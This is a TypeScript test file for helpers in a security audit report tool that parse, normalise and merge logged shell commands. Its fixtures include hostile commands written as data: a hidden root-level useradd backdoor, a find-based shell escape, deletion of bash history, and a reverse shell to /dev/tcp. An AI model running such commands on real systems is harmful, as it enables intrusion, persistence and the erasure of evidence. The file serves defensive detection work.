import { accountFromCommand, commandKey, mergeCommands } from './data';

const row = (over: Partial<Parameters<typeof mergeCommands>[0][number]>): Parameters<typeof mergeCommands>[0][number] => ({
  time: '2026-11-13T15:41:00.000Z', host: 'app-02', user: '', loginUser: '', sourceIp: '', tty: '', command: '', rule: 'r', severity: 'medium', sources: [], ...over,
});

describe('report data helpers', () => {
  it('takes the account name from the command that changed it, not an option value', () => {
    expect(accountFromCommand(['useradd', '-o', '-u', '0', '-g', '0', '-M', '-d', '/root', '-s', '/bin/bash', 'sysupdate'])).toBe('sysupdate');
    expect(accountFromCommand(['/usr/sbin/usermod', '-aG', 'sudo', 'wang.fang'])).toBe('wang.fang');
    expect(accountFromCommand(['ls', '-l', 'x'])).toBe('');
  });

  it('treats the hook and auditd recordings of one command as the same command', () => {
    expect(commandKey('sudo find /srv -exec /bin/sh \\; -quit')).toBe(commandKey("/usr/bin/find /srv -exec /bin/sh '\\;' -quit"));
    expect(commandKey('rm -f ~/.bash_history')).toBe(commandKey("rm -f '~/.bash_history'"));
    expect(commandKey('rm -f a')).not.toBe(commandKey('rm -f b'));
  });

  it('merges one command seen by two sources into one row that names both, the worst severity first', () => {
    const rows = mergeCommands([
      row({ command: 'rm -f ~/.bash_history', sourceIp: '203.0.113.45', sources: ['hook'], severity: 'high' }),
      row({ time: '2026-11-13T15:41:00.500Z', command: "rm -f '~/.bash_history'", tty: 'pts/1', sources: ['auditd'], severity: 'high' }),
      row({ time: '2026-11-13T15:45:00.000Z', command: 'rm -f ~/.bash_history', sources: ['auditd'], severity: 'high' }),
      row({ command: 'bash -i >& /dev/tcp/1.2.3.4/1 0>&1', sources: ['hook'], severity: 'critical' }),
    ]);
    expect(rows.map((r) => [r.severity, r.sources])).toEqual([['critical', ['hook']], ['high', ['auditd', 'hook']], ['high', ['auditd']]]);
    expect(rows[1]).toMatchObject({ sourceIp: '203.0.113.45', tty: 'pts/1' });
  });
});
